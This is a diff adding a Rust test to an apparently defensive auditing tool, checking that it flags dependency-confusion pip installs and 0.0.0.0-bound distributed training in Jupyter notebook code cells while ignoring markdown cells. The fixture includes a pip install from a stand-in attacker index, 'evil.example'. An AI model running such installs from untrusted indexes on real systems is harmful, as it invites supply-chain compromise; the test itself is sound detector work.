@@ -386,3 +386,69 @@ fn unparsable_configuration_is_incomplete() {
     let (_, code, doc) = audit(d.path(), "confusion");
     assert_eq!(code, 2, "{doc}");
 }
+
+/// Notebooks are where data scientists install packages: `%pip install`
+/// with an extra index, `os.environ` index settings, `!torchrun` bound to
+/// every interface, `init_process_group` in a code cell. Each is found at
+/// the notebook's own line (the notebooks are written by the real
+/// nbformat); markdown cells are not code; a notebook that cannot be read
+/// makes the answer incomplete.
+#[cfg(feature = "live")]
+#[test]
+fn notebooks_are_read_cell_by_cell() {
+    let d = tempfile::tempdir().unwrap();
+    let py = r#"
+import sys, nbformat
+from nbformat.v4 import new_notebook, new_code_cell, new_markdown_cell
+nb = new_notebook(cells=[
+    new_markdown_cell("Install with `!pip install --extra-index-url https://evil.example/simple x`"),
+    new_code_cell("%pip install --extra-index-url https://pypi.internal.example/simple acme-core"),
+    new_code_cell("import os\nos.environ[\"PIP_EXTRA_INDEX_URL\"] = \"https://pypi.internal.example/simple\"\n!pip install acme-utils"),
+    new_code_cell("!torchrun --nnodes=2 --rdzv-endpoint=0.0.0.0:29400 train.py"),
+    new_code_cell("import torch.distributed as dist\ndist.init_process_group('nccl', init_method='tcp://0.0.0.0:23456', rank=0, world_size=2)"),
+])
+nbformat.write(nb, sys.argv[1] + "/train.ipynb")
+md = new_notebook(cells=[new_markdown_cell("%pip install --extra-index-url https://evil.example/simple x")])
+nbformat.write(md, sys.argv[1] + "/notes/readme.ipynb")
+"#;
+    std::fs::create_dir_all(d.path().join("notes")).unwrap();
+    common::Run::ok(
+        std::process::Command::new(common::venv_bin("python"))
+            .args(["-c", py])
+            .arg(d.path()),
+    );
+    let text = std::fs::read_to_string(d.path().join("train.ipynb")).unwrap();
+    let line_of = |needle: &str| {
+        text.lines()
+            .position(|l| l.contains(needle))
+            .map(|i| i + 1)
+            .unwrap_or_else(|| panic!("{needle} not in the notebook"))
+    };
+    let (rules, code, doc) = audit(d.path(), "confusion,distributed");
+    assert_eq!(code, 1, "{doc}");
+    for r in ["AUD012", "AUD101"] {
+        assert!(rules.contains(r), "{r} missing: {doc}");
+    }
+    let findings = doc["findings"].as_array().unwrap();
+    let at = |rule: &str, line: usize| {
+        findings.iter().any(|f| {
+            f["rule"].as_str().unwrap().starts_with(rule)
+                && f["file"] == "train.ipynb"
+                && f["line"] == line
+        })
+    };
+    assert!(at("AUD012", line_of("%pip install")), "{doc}");
+    assert!(at("AUD012", line_of("!pip install acme-utils")), "{doc}");
+    assert!(at("AUD101", line_of("!torchrun")), "{doc}");
+    assert!(at("AUD101", line_of("init_process_group")), "{doc}");
+    assert!(
+        findings.iter().all(|f| f["file"] != "notes/readme.ipynb"
+            && !f["message"].as_str().unwrap_or("").contains("evil.example")),
+        "a markdown cell was read as code: {doc}"
+    );
+    // A notebook that is not one: the confusion answer is incomplete.
+    let broken = project(&[("broken.ipynb", b"{\"cells\": [ {\"cell_type\": \"code\", ")]);
+    let (rules, code, doc) = audit(broken.path(), "confusion");
+    assert!(rules.is_empty(), "{doc}");
+    assert_eq!(code, 2, "an unread notebook must not pass: {doc}");
+}
